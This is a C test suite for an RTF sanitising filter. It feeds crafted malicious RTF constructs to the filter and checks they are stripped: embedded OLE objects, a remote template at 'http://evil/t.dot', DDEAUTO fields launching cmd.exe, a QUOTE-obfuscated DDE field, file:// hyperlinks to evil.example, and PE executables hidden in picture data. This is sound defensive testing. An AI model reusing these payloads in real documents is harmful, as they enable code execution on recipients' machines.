/*
 * NAME
 *   test_rtf - the RTF disarm filter (filters/f_rtf.c), in process
 *
 * DESCRIPTION
 *   Rows of small RTF documents, one per dangerous construct, built here;
 *   each says which control words must be gone, which text must stay and
 *   which note must appear, or that the document is rejected: objects,
 *   templates, fields (fetching, nested, not on the harmless list) and
 *   pictures whose data is not the image they declare (a PE in \bin) or
 *   that carry a PE inside (JPEG, DIB, EMF comment: rebuilt).  Real
 *   samples (oletools rtfobj, the 2 MB RTF specification, ClamAV's
 *   clam.exe.rtf) must lose every \object/\objdata and parse again to the
 *   same bytes (idempotence).
 */
#include <string.h>

#include "f_rtf.h"
#include "mk_limits.h"
#include "testutil.h"

static const mk_wopts opts = { .max_output = 64 * 1024 * 1024,
                               .rtf_max_depth = MK_DEF_RTF_MAX_DEPTH,
                               .image_max_pixels = MK_DEF_IMAGE_MAX_PIXELS,
                               .image_max_dimension = MK_DEF_IMAGE_MAX_DIMENSION };

/* Is WORD present as a real control word (an odd run of backslashes)? */
static bool has_word(const char *s, gsize len, const char *word)
{
	gsize wl = strlen(word);
	for (gsize i = 0; i + wl + 1 <= len; i++) {
		if (s[i] != '\\' || memcmp(s + i + 1, word, wl) != 0)
			continue;
		if (i + 1 + wl < len && g_ascii_isalpha(s[i + 1 + wl]))
			continue;
		gsize n = 0;
		while (n < i && s[i - 1 - n] == '\\')
			n++;
		if (n % 2 == 0)
			return true;
	}
	return false;
}

static int run(const char *in, gsize len, GString **out, GPtrArray *notes,
               mk_error *err)
{
	GBytes *b = g_bytes_new(in, len), *o = NULL;
	char *type = NULL;
	int rc = mk_wfilter_rtf.run(b, &opts, &o, &type, notes, err);
	*out = NULL;
	if (rc == 0) {
		ck_assert_str_eq(type, "text/rtf");
		gsize n = 0;
		const char *d = g_bytes_get_data(o, &n);
		*out = g_string_new_len(d, (gssize)n);
	}
	g_bytes_unref(b);
	g_bytes_unref(o);
	g_free(type);
	return rc;
}

static bool notes_have(GPtrArray *notes, const char *sub)
{
	for (guint i = 0; i < notes->len; i++)
		if (strstr(notes->pdata[i], sub))
			return true;
	return false;
}

/* a 2x2 RGB PNG, hex */
/* a PE (lower-case hex: as the output writes it), 39 zero bytes, a 2x2
 * 24-bit DIB, an EMF whose EMR_COMMENT holds the PE */
#define PE_HEX "4d5a900020546869732070726f6772616d2063616e6e6f742062652072756e20696e20444f53206d6f64652e0d0d0a2450450000"
#define ZERO_HEX "000000000000000000000000000000000000000000000000000000000000000000000000000000"
#define DIB_HEX "28000000020000000200000001001800000000001000000000000000000000000000000000000000000102030405060708090a0b0c0d0e0f"
#define EMF_HEX "0100000058000000000000000000000000000000000000000000000000000000640000006400000020454d4600000100b80000000400000001000000" \
	"000000000000000000000000000400000003000040010000f00000004600000040000000340000004d5a900020546869732070726f6772616d206361" \
	"6e6e6f742062652072756e20696e20444f53206d6f64652e0d0d0a2450450000120000000c000000010000000e00000014000000000000001000000014000000"
#define PNG_HEX "89504e470d0a1a0a0000000d4948445200000002000000020802000000" \
	"fdd49a730000001049444154789c63f8cfc000440c100a001fee03fd8b5f14d4" \
	"0000000049454e44ae426082"

static const struct row {
	const char *name, *in;
	int rc;                  /* expected return */
	const char *gone[3];     /* control words that must not survive */
	const char *kept;        /* text that must survive */
	const char *note;        /* substring of a note */
} rows[] = {
	{ "object", "{\\rtf1 a{\\object\\objemb{\\*\\objclass Package}"
	  "{\\*\\objdata 0105000002}{\\result {\\pict x}}}b}", 0,
	  { "object", "objdata", "objclass" }, "a", "\\object" },
	{ "objdata-late", "{\\rtf1 x{\\b bold \\objdata 01050000}y}", 0,
	  { "objdata" }, "y}", "objdata" },
	{ "objocx", "{\\rtf1 {\\objocx\\objw10 ab}ok}", 0,
	  { "objocx", "objw" }, "ok", "objocx" },
	{ "template", "{\\rtf1 {\\*\\template http://evil/t.dot}text}", 0,
	  { "template" }, "text", "template" },
	{ "datastore", "{\\rtf1 {\\*\\datastore 0105000002000000}z}", 0,
	  { "datastore" }, "z", "datastore" },
	{ "unknown-ignorable", "{\\rtf1 {\\*\\zzfoo evil}{\\*\\generator G;}t}",
	  0, { "zzfoo" }, "\\generator G;", "zzfoo" },
	{ "themedata", "{\\rtf1 {\\*\\themedata 504b0304}k}", 0,
	  { "themedata" }, "k", "themedata" },
	{ "dde-field", "{\\rtf1 {\\field{\\*\\fldinst DDEAUTO c:\\\\windows"
	  "\\\\system32\\\\cmd.exe \"/k calc\"}{\\fldrslt shown}}}", 0,
	  { "fldinst" }, "shown", "fldinst" },
	{ "dde-split-hex", "{\\rtf1 {\\field{\\*\\fldinst {\\'44}{DE}AUTO x}"
	  "{\\fldrslt r}}}", 0, { "fldinst" }, "r", "fldinst" },
	{ "includepicture", "{\\rtf1 {\\field{\\*\\fldinst  INCLUDEPICTURE "
	  "\"http://x/a.png\" \\\\d}{\\fldrslt p}}}", 0, { "fldinst" }, "p",
	  "fldinst" },
	{ "safe-field", "{\\rtf1 {\\field{\\*\\fldinst PAGE }{\\fldrslt 1}}}",
	  0, { NULL }, "\\fldinst PAGE", NULL },
	/* a field whose keyword a nested field makes (QUOTE spelling
	 * DDEAUTO): the outer first word used to be the only one looked at */
	{ "nested-quote-dde", "{\\rtf1 {\\field{\\*\\fldinst {\\field{\\*\\fldinst "
	  "QUOTE 68 68 69 65 85 84 79}{\\fldrslt DDEAUTO}} c:\\\\x.exe}"
	  "{\\fldrslt shown}}}", 0, { "fldinst" }, "shown", "nested field" },
	{ "hyperlink-file", "{\\rtf1 {\\field{\\*\\fldinst HYPERLINK "
	  "\"file://evil.example/s/x.exe\"}{\\fldrslt click}}}", 0,
	  { "fldinst" }, "click", "not allowed" },
	/* a web HYPERLINK field leaves its URL, defanged, after the field
	 * (issue 14, item 2) */
	{ "hyperlink-web", "{\\rtf1 see {\\field{\\*\\fldinst HYPERLINK "
	  "\"https://www.example.jp/a?b=1\"}{\\fldrslt our site}} today}", 0,
	  { "fldinst" }, "{\\fldrslt our site}} <hxxps://www[.]example[.]jp/a?b=1> today",
	  "web_link 1: " },
	{ "pagex-not-page", "{\\rtf1 {\\field{\\*\\fldinst PAGEX}{\\fldrslt 2}}}",
	  0, { "fldinst" }, "2", "not allowed" },
	/* pictures: the data must be the image the blip word declares */
	{ "pict-pe-bin", "{\\rtf1 {\\pict\\pngblip\\bin8 MZ\x90\x01PE\x02\x03}ok}",
	  0, { "pict", "pngblip", "bin" }, "ok", "pict" },
	/* a PNG with a PE appended: decoded and encoded anew, the tail goes */
	{ "pict-png-plus-pe", "{\\rtf1 {\\pict\\pngblip " PNG_HEX PE_HEX "}ok}",
	  0, { NULL }, "{\\pict\\pngblip\n89504e47", NULL },
	{ "pict-png-ok", "{\\rtf1 {\\pict\\picw2\\pich2\\pngblip\n" PNG_HEX
	  "\n}ok}", 0, { NULL }, "\\pngblip", NULL },
	{ "pict-jpeg-says-png", "{\\rtf1 {\\pict\\pngblip ffd8ffe000ffd9}ok}", 0,
	  { "pict" }, "ok", "pict" },
	{ "pict-no-kind", "{\\rtf1 {\\pict " PNG_HEX "}ok}", 0, { "pict" },
	  "ok", "pict" },
	{ "pict-in-pict", "{\\rtf1 {\\pict\\pngblip " PNG_HEX
	  "{\\pict\\wbitmap0 4d5a}}ok}", 0, { "pict", "wbitmap" }, "ok", "pict" },
	{ "bin-in-object", "{\\rtf1 {\\object\\bin4 {}}\\objdata}ok}", 0,
	  { "object", "objdata" }, "ok", "object" },
	/* \bin data is raw (braces in it are data): not a JPEG that decodes,
	 * so the whole group goes and "c" follows it */
	{ "bin-kept", "{\\rtf1 {\\pict\\jpegblip\\bin8 \xff\xd8\xff}b}\xff\xd9}c}", 0,
	  { "pict", "bin" }, "{\\rtf1 c}", "pict" },
	/* pictures are rebuilt: a JPEG SOI..EOI or a DIB header around a PE
	 * went out as it was; an EMF loses its comment records */
	{ "pict-jpeg-pe", "{\\rtf1 {\\pict\\jpegblip ffd8ffe0" PE_HEX "ffd9}ok}", 0,
	  { "pict" }, "ok", "pict" },
	{ "pict-dib-pe", "{\\rtf1 {\\pict\\dibitmap0 28" ZERO_HEX PE_HEX "}ok}", 0,
	  { "pict" }, "ok", "pict" },
	{ "pict-dib-ok", "{\\rtf1 {\\pict\\picw2\\pich2\\dibitmap0 " DIB_HEX "}ok}", 0,
	  { "dibitmap" }, "\\picw2\\pich2\\pngblip", NULL },
	{ "pict-emf-comment", "{\\rtf1 {\\pict\\emfblip " EMF_HEX "}ok}", 0,
	  { NULL }, "\\emfblip", NULL },
	{ "escaped-braces", "{\\rtf1 \\{\\objdata\\} x}", MK_ERR_DATA,
	  { NULL }, NULL, NULL },
	{ "root-objdata", "{\\rtf1 \\objdata 0105}", MK_ERR_DATA, { NULL },
	  NULL, NULL },
	{ "unbalanced-open", "{\\rtf1 {\\b x}", MK_ERR_DATA, { NULL }, NULL,
	  NULL },
	{ "unbalanced-close", "{\\rtf1 x}}", 0, { NULL }, "x", "after" },
	{ "not-rtf", "hello {\\rtf1 x}", MK_ERR_DATA, { NULL }, NULL, NULL },
	{ "long-word", "{\\rtf1 \\aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa x}",
	  MK_ERR_DATA, { NULL }, NULL, NULL },
	{ "bin-past-end", "{\\rtf1 {\\pict\\bin999 ab}}", MK_ERR_DATA,
	  { NULL }, NULL, NULL },
	{ "trailing-slash", "{\\rtf1 x\\", MK_ERR_DATA, { NULL }, NULL, NULL },
};

START_TEST(test_rows)
{
	const struct row *r = &rows[_i];
	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
	mk_error err = { 0 };
	GString *out = NULL;
	int rc = run(r->in, strlen(r->in), &out, notes, &err);

	ck_assert_msg(rc == r->rc, "%s: rc %d (%s), want %d", r->name, rc,
	              err.msg, r->rc);
	if (rc == 0) {
		ck_assert_msg(!strstr(out->str, PE_HEX), "%s: PE left", r->name);
		for (int k = 0; k < 3 && r->gone[k]; k++)
			ck_assert_msg(!has_word(out->str, out->len, r->gone[k]),
			              "%s: \\%s left in %s", r->name, r->gone[k],
			              out->str);
		if (r->kept)
			ck_assert_msg(strstr(out->str, r->kept), "%s: lost '%s': %s",
			              r->name, r->kept, out->str);
		if (r->note)
			ck_assert_msg(notes_have(notes, r->note), "%s: no note %s",
			              r->name, r->note);
		else
			ck_assert_msg(notes->len == 0, "%s: note %s", r->name,
			              (char *)notes->pdata[0]);
		g_string_free(out, TRUE);
	}
	g_ptr_array_unref(notes);
}
END_TEST

/* Nesting: groups inside the root group, the rtf.max_depth given, the
 * result.  The root group counts as one level. */
static const struct { int groups; gsize max_depth; int rc; } depth_rows[] = {
	{ MK_DEF_RTF_MAX_DEPTH - 1, MK_DEF_RTF_MAX_DEPTH, 0 },
	{ MK_DEF_RTF_MAX_DEPTH, MK_DEF_RTF_MAX_DEPTH, MK_ERR_LIMIT },
	{ MK_DEF_RTF_MAX_DEPTH + 5, MK_DEF_RTF_MAX_DEPTH, MK_ERR_LIMIT },
	{ 7, 8, 0 },
	{ 8, 8, MK_ERR_LIMIT },
	{ 1, 0, MK_ERR_CONFIG },   /* unset in the options: fail closed */
};

START_TEST(test_depth)
{
	GString *in = g_string_new("{\\rtf1 ");
	mk_wopts o = opts;
	GBytes *b, *out = NULL;
	char *type = NULL;
	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
	mk_error err = { 0 };

	for (int i = 0; i < depth_rows[_i].groups; i++)
		g_string_append(in, "{x");
	for (int i = 0; i < depth_rows[_i].groups + 1; i++)
		g_string_append_c(in, '}');
	o.rtf_max_depth = (gint64)depth_rows[_i].max_depth;
	b = g_string_free_to_bytes(in);
	ck_assert_int_eq(mk_wfilter_rtf.run(b, &o, &out, &type, notes, &err),
	                 depth_rows[_i].rc);
	if (depth_rows[_i].rc == MK_ERR_LIMIT)
		ck_assert_ptr_nonnull(strstr(err.msg, "rtf.max_depth"));
	ck_assert((out == NULL) == (depth_rows[_i].rc != 0));
	if (out)
		g_bytes_unref(out);
	g_free(type);
	g_bytes_unref(b);
	g_ptr_array_unref(notes);
}
END_TEST

START_TEST(test_output_limit)
{
	const char *in = "{\\rtf1 0123456789012345678901234567890123456789}";
	GString *out = NULL;
	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
	mk_error err = { 0 };
	ck_assert_int_eq(mk_rtf_rebuild(in, strlen(in), 20, MK_DEF_RTF_MAX_DEPTH,
	                                NULL, &out, notes, &err),
	                 MK_ERR_LIMIT);
	ck_assert_ptr_null(out);
	g_ptr_array_unref(notes);
}
END_TEST

static const struct sample {
	const char *path;        /* under $MK_SHARED or absolute */
	bool had_object;
} samples[] = {
	{ "corpora/oletools/rtfobj/issue_251.rtf", true },
	{ "corpora/oletools/msodde/RTF-Spec-1.7.rtf", false },
	{ "/usr/share/clamav-testfiles/clam.exe.rtf", true },
};

START_TEST(test_samples)
{
	const struct sample *s = &samples[_i];
	char *path = s->path[0] == '/' ? g_strdup(s->path)
	                               : mkt_shared_path(s->path);
	GBytes *in = mkt_read(path);
	gsize len = 0;
	const char *d = g_bytes_get_data(in, &len);
	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
	GPtrArray *notes2 = g_ptr_array_new_with_free_func(g_free);
	mk_error err = { 0 };
	GString *out = NULL, *again = NULL;

	ck_assert_msg(has_word(d, len, "object") == s->had_object, "%s", path);
	ck_assert_msg(run(d, len, &out, notes, &err) == 0, "%s: %s", path,
	              err.msg);
	ck_assert(!has_word(out->str, out->len, "object"));
	ck_assert(!has_word(out->str, out->len, "objdata"));
	ck_assert(!has_word(out->str, out->len, "objocx"));
	ck_assert(s->had_object == notes_have(notes, "\\object"));
	ck_assert_msg(run(out->str, out->len, &again, notes2, &err) == 0, "%s",
	              err.msg);
	ck_assert(g_string_equal(out, again));
	ck_assert_uint_eq(notes2->len, 0);
	g_string_free(out, TRUE);
	g_string_free(again, TRUE);
	g_ptr_array_unref(notes);
	g_ptr_array_unref(notes2);
	g_bytes_unref(in);
	g_free(path);
}
END_TEST

int main(void)
{
	Suite *s = suite_create("rtf");
	TCase *tc = tcase_create("rtf");
	tcase_add_loop_test(tc, test_rows, 0, G_N_ELEMENTS(rows));
	tcase_add_loop_test(tc, test_depth, 0, G_N_ELEMENTS(depth_rows));
	tcase_add_test(tc, test_output_limit);
	tcase_add_loop_test(tc, test_samples, 0, G_N_ELEMENTS(samples));
	suite_add_tcase(s, tc);
	return mkt_run(s);
}
